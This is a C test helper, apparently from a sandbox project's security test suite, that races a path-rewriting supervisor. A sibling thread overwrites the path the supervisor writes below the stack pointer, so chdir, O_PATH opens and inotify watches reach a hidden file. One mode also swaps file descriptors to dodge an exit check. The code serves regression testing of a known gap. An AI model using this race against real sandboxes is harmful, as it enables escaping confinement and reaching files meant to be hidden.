/*
 * attack_redzone: the race on a path the tracer rewrites (fs_cow_traced, where a cow mount is
 * merged). The supervisor writes the host path of what the view found 128 bytes below the
 * caller's stack pointer and points the call at it; a sibling thread that sees it appear
 * rewrites it before the kernel reads it. For tests/security/test_cow_race.sh.
 *
 *     attack_redzone chdir|opath|watch|swap LEGIT EVIL EVIL_INO SECONDS
 *
 * LEGIT is a path the view shows, absolute, its host path longer than EVIL; EVIL the host path
 * of something the view hides, whose inode is EVIL_INO. Thread A makes the call again and
 * again with the raw syscall; thread B, while A is in the call, polls the slots beneath A's
 * stack pointer where the supervisor may write a path. When A reaches EVIL (its cwd, or its
 * O_PATH fd, has EVIL_INO; a watch that is not LEGIT's) it prints "won PID FD" and sleeps, so
 * that the test reads /proc/PID/cwd, /proc/PID/fd/FD or /proc/PID/fdinfo/FD from outside.
 * swap: A opens LEGIT O_PATH, B rewrites the path and, when A's fd is EVIL's, keeps a copy
 * and puts LEGIT's in its place before the exit check looks (a race the check cannot see:
 * README's known gap); A then tries a watch, a chdir and an O_PATH open through
 * /proc/self/fd/N of the kept fd, prints what each did, and "won PID INOTIFY_FD".
 * After SECONDS without
 * that it prints "lost TRIES REWRITES OK": the calls made, how often B found a path to
 * rewrite, how many calls succeeded.
 * Exit: 0 either way; 122 usage; 123 preparation failed.
 */
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static const char *legit, *evil;
static _Atomic uintptr_t below; /* A's stack pointer less the red zone, while A is in the call */
static atomic_bool stop;
static _Atomic long rewrites; /* how often B saw the slot written, and rewrote it */
/* swap: the fd number A's open gets, an O_PATH fd of LEGIT, and B's copy of what A got when it
 * was EVIL (-1 until then) */
static int swap_n = -1, legit_fd = -1;
static unsigned long long swap_ino;
static atomic_int swap_kept = -1;

/* The raw call, inlined into main: the stack pointer the kernel sees is main's. */
static inline __attribute__((always_inline)) long raw(long nr, long a, long b, long c)
{
        register long r10 __asm__("r10") = 0; /* openat's mode: set-id bits are refused */
        long ret;

        __asm__ volatile("syscall"
                         : "=a"(ret)
                         : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10)
                         : "rcx", "r11", "memory");
        return ret;
}

static inline __attribute__((always_inline)) uintptr_t sp_now(void)
{
        uintptr_t sp;

        __asm__ volatile("mov %%rsp, %0" : "=r"(sp));
        return sp;
}

/* swap: B, having rewritten the path, waits for A's fd; when it is EVIL's, B keeps a copy
 * and puts LEGIT's in its place before the supervisor's check at A's exit looks. */
static void swap(void)
{
        for (long i = 0; i < 2000000 && atomic_load(&below); i++) {
                struct stat st;
                int keep;

                if (fstat(swap_n, &st) < 0)
                        continue;
                if (st.st_ino != swap_ino)
                        return; /* LEGIT's: the rewrite came too late */
                keep = fcntl(swap_n, F_DUPFD_CLOEXEC, 200);
                dup2(legit_fd, swap_n);
                if (keep >= 0)
                        atomic_store(&swap_kept, keep);
                return;
        }
}

/* B: writes below the red zone of the stack pointer A's call has, where the supervisor puts
 * the path, only while A is in the call: nothing of A's lives there then. */
static void *rewriter(void *arg)
{
        size_t en = strlen(evil) + 1;

        (void)arg;
        while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
                uintptr_t top = atomic_load(&below);

                /* Every 16-byte slot a path of up to 512 bytes could be put at: the first
                 * that holds a path longer than EVIL is the supervisor's. */
                for (uintptr_t at = (top - 16) & ~(uintptr_t)15; top && at > top - 512; at -= 16) {
                        volatile char *p = (volatile char *)at;

                        if (p[0] == '/' && strnlen((const char *)p, 512) >= en &&
                            memcmp((const char *)p, evil, en) != 0) {
                                memcpy((char *)p, evil, en);
                                atomic_fetch_add(&rewrites, 1);
                                if (swap_n >= 0)
                                        swap();
                                break;
                        }
                }
        }
        return NULL;
}

int main(int argc, char **argv)
{
        const char *mode;
        unsigned long long evil_ino;
        int seconds, ifd = -1;
        long first_wd = -1;
        long tries = 0, ok = 0;
        pthread_t b;
        time_t end;

        if (argc != 6)
                return 122;
        mode = argv[1];
        legit = argv[2];
        evil = argv[3];
        evil_ino = strtoull(argv[4], NULL, 10);
        seconds = atoi(argv[5]);
        if (strlen(evil) >= strlen(legit))
                return 122;
        if ((strcmp(mode, "watch") == 0 || strcmp(mode, "swap") == 0) &&
            (ifd = inotify_init1(IN_CLOEXEC)) < 0)
                return 123;
        if (strcmp(mode, "swap") == 0) {
                legit_fd = open(legit, O_PATH | O_CLOEXEC);
                swap_n = legit_fd < 0 ? -1 : dup(legit_fd);
                if (swap_n < 0)
                        return 123;
                close(swap_n); /* the number A's opens get */
                swap_ino = evil_ino;
        }
        if (pthread_create(&b, NULL, rewriter, NULL))
                return 123;
        end = time(NULL) + seconds;
        while (time(NULL) < end) {
                long r;

                tries++;
                if (strcmp(mode, "chdir") == 0) {
                        struct stat st;
                        char cwd[4096];
                        ssize_t k;

                        atomic_store(&below, sp_now() - 128);
                        r = raw(SYS_chdir, (long)legit, 0, 0);
                        atomic_store(&below, 0);
                        if (r != 0)
                                continue;
                        ok++;
                        /* the view's answers, which name the cwd the kernel holds */
                        k = readlink("/proc/self/cwd", cwd, sizeof(cwd) - 1);
                        if (k > 0)
                                cwd[k] = '\0';
                        if ((k > 0 && strcmp(cwd, evil) == 0) ||
                            (stat(".", &st) == 0 && st.st_ino == evil_ino)) {
                                printf("won %d -1\n", (int)getpid());
                                fflush(stdout);
                                sleep(5);
                                return 0;
                        }
                } else if (strcmp(mode, "opath") == 0) {
                        struct stat st;

                        atomic_store(&below, sp_now() - 128);
                        r = raw(SYS_openat, AT_FDCWD, (long)legit, O_PATH | O_CLOEXEC);
                        atomic_store(&below, 0);
                        ok += r >= 0;
                        if (r >= 0 && fstat((int)r, &st) == 0 && st.st_ino == evil_ino) {
                                printf("won %d %ld\n", (int)getpid(), r);
                                fflush(stdout);
                                sleep(5);
                                return 0;
                        }
                        if (r >= 0)
                                close((int)r);
                } else if (strcmp(mode, "watch") == 0) {
                        /* the same inode gives the same watch: another one is EVIL's */
                        atomic_store(&below, sp_now() - 128);
                        r = raw(SYS_inotify_add_watch, ifd, (long)legit, IN_ALL_EVENTS);
                        atomic_store(&below, 0);
                        ok += r >= 0;
                        if (r >= 0 && first_wd < 0)
                                first_wd = r;
                        if (r >= 0 && r != first_wd) {
                                printf("won %d %d\n", (int)getpid(), ifd);
                                fflush(stdout);
                                sleep(5);
                                return 0;
                        }
                } else if (strcmp(mode, "swap") == 0) {
                        char proc[48];
                        int w;

                        atomic_store(&below, sp_now() - 128);
                        r = raw(SYS_openat, AT_FDCWD, (long)legit, O_PATH | O_CLOEXEC);
                        atomic_store(&below, 0);
                        ok += r >= 0;
                        if (r >= 0)
                                close((int)r);
                        w = atomic_load(&swap_kept);
                        if (w < 0)
                                continue;
                        /* An O_PATH fd of EVIL, kept: the calls the kernel resolves must not
                         * go through its magic link. The test looks from outside. */
                        snprintf(proc, sizeof(proc), "/proc/self/fd/%d", w);
                        printf("swapped: watch %s, chdir %s, O_PATH %s\n",
                               inotify_add_watch(ifd, proc, IN_ALL_EVENTS) < 0 ? "refused" : "made",
                               chdir(proc) < 0 ? "refused" : "made",
                               open(proc, O_PATH | O_CLOEXEC) < 0 ? "refused" : "made");
                        printf("won %d %d\n", (int)getpid(), ifd);
                        fflush(stdout);
                        sleep(5);
                        return 0;
                } else {
                        return 122;
                }
        }
        atomic_store(&stop, true);
        pthread_join(b, NULL);
        printf("lost %ld %ld %ld\n", tries, atomic_load(&rewrites), ok);
        return 0;
}
